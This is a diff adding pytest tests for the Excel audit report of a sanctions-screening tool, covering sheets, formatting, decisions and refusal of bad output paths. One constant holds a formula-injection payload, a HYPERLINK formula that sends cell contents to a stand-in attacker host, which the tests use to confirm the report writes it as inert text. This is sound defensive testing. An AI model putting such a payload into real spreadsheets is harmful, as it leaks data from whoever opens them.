@@ -1,0 +1,152 @@
+"""The Excel audit report, reopened and read as an auditor's Excel would read it."""
+
+from __future__ import annotations
+
+from datetime import datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from screener.core import decisions, report, runs
+from screener.core.entries import EntityType, Entry, ParsedList
+from screener.core.report import ReportError
+from screener.core.store import Store
+
+INJECTED = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
+
+
+def _store_with_run(home: Path) -> tuple[Store, int, list[int]]:
+    store = Store.open(home)
+    v = store.add_list_version(
+        ParsedList(
+            source="ofac_sdn",
+            title="OFAC SDN",
+            format="test",
+            published=None,
+            published_basis="unknown",
+            files=(Path("sdn.csv"),),
+            entries=[Entry(entry_id="1", type=EntityType.ORGANIZATION, name="X")],
+        ),
+        sha256="a" * 64,
+        size=1,
+    )
+    run_id = runs.start_run(
+        store,
+        runs.RunInfo(
+            file_name="orders.xlsx",
+            file_sha256="f" * 64,
+            sheet="Orders",
+            mapping={"buyer": "Customer", "quantity": "Qty"},
+            policy_version="2024.1",
+            matcher_version="1",
+            list_version_ids=(v.id,),
+        ),
+    )
+    hit = runs.HitRecord(
+        role="buyer",
+        party_name=INJECTED,
+        party_country="AE",
+        source="ofac_sdn",
+        sub_source="",
+        list_version_id=v.id,
+        entry_rowid=1,
+        entry_id="1",
+        entry_name="X",
+        entry_hash="h",
+        matched_name="X",
+        programs=("RUSSIA-EO14024",),
+        score=0.91,
+        explanation="tokens: x",
+    )
+    lines = [
+        runs.LineRecord(
+            row=r,
+            cells=(
+                ("Customer", INJECTED if r == 3 else f"Cust {r}"),
+                ("Qty", "12"),
+                ("HS", "0901.21"),
+            ),
+            order_no="SO-1",
+            line_no=str(r),
+            parties=(),
+            description="d",
+            hs_code="0901.21",
+            destination="AE",
+            transit=(),
+            problems=(),
+            verdict=v_,
+            reasons=(f"reason {r}",),
+            findings=(),
+            hits=(hit,) if r == 3 else (),
+        )
+        for r, v_ in ((2, "clear"), (3, "block"), (4, "review"))
+    ]
+    line_ids = runs.add_lines(store, run_id, lines)
+    runs.finish_run(store, run_id, status="completed", lines=3)
+    return store, run_id, line_ids
+
+
+def test_report_sheets_rows_and_key_cells(home: Path, tmp_path: Path) -> None:
+    store, run_id, line_ids = _store_with_run(home)
+    decisions.record_decision(store, line_id=line_ids[1], action="hold", justification="check")
+    decisions.record_decision(
+        store, line_id=line_ids[1], action="blocked", justification="confirmed SDN match"
+    )
+    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")
+
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Summary", "Lines", "Hits", "Decisions", "Lists"]
+    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
+    assert summary["Run id"] == run_id
+    assert summary["Verdict: block"] == 1
+    assert summary["Decision: Blocked"] == 1
+    assert summary["Audit chain verified"] == "passed"
+    assert isinstance(summary["Started (UTC)"], datetime)
+
+    lines = wb["Lines"]
+    assert lines.max_row == 1 + 3  # header + one row per line, in input order
+    header = [c.value for c in lines[1]]
+    assert header[:4] == ["Row", "Order", "Line", "Verdict"]
+    assert [lines.cell(r, 1).value for r in (2, 3, 4)] == [2, 3, 4]
+    blocked = {h: c.value for h, c in zip(header, lines[3], strict=True)}
+    assert blocked["Decision"] == "Blocked"
+    assert blocked["Justification"] == "confirmed SDN match"
+    assert blocked["[Qty]"] == 12  # mapped quantity column: a number
+    assert blocked["[HS]"] == "0901.21"  # HS stays text: leading zero kept
+    assert lines.cell(3, 4).fill.fgColor.rgb.endswith("F4C7C3")  # block is red
+    assert lines.cell(1, 1).font.bold
+    assert lines.freeze_panes == "A2"
+    assert lines.auto_filter.ref.startswith("A1:")
+
+    assert wb["Hits"].max_row == 2
+    assert wb["Decisions"].max_row == 3  # both decisions, the superseded one included
+    assert [c.value for c in wb["Decisions"][2]][-1] == "yes"  # first one is superseded
+    assert wb["Lists"].cell(2, 1).value == "ofac_sdn"
+
+
+def test_injected_formula_is_inert_text(home: Path, tmp_path: Path) -> None:
+    store, run_id, _ = _store_with_run(home)
+    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")
+    wb = openpyxl.load_workbook(out)
+    hits = wb["Hits"]
+    cell = hits.cell(2, 3)
+    assert cell.value == INJECTED
+    assert cell.data_type == "s"  # a string, not a formula ("f")
+    assert cell.quotePrefix
+    lines = wb["Lines"]
+    injected = [c for row in lines.iter_rows() for c in row if c.value == INJECTED]
+    assert injected
+    assert all(c.data_type == "s" for c in injected)
+    # Nothing anywhere in the workbook is a formula.
+    for ws in wb.worksheets:
+        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+
+
+def test_report_refuses_bad_target_and_leaves_no_partial_file(home: Path, tmp_path: Path) -> None:
+    store, run_id, _ = _store_with_run(home)
+    with pytest.raises(ReportError, match=r"\.xlsx"):
+        report.write_report(store, run_id, tmp_path / "audit.csv")
+    with pytest.raises(ReportError, match="does not exist"):
+        report.write_report(store, run_id, tmp_path / "missing" / "audit.xlsx")
+    assert list(tmp_path.glob("*.part")) == []
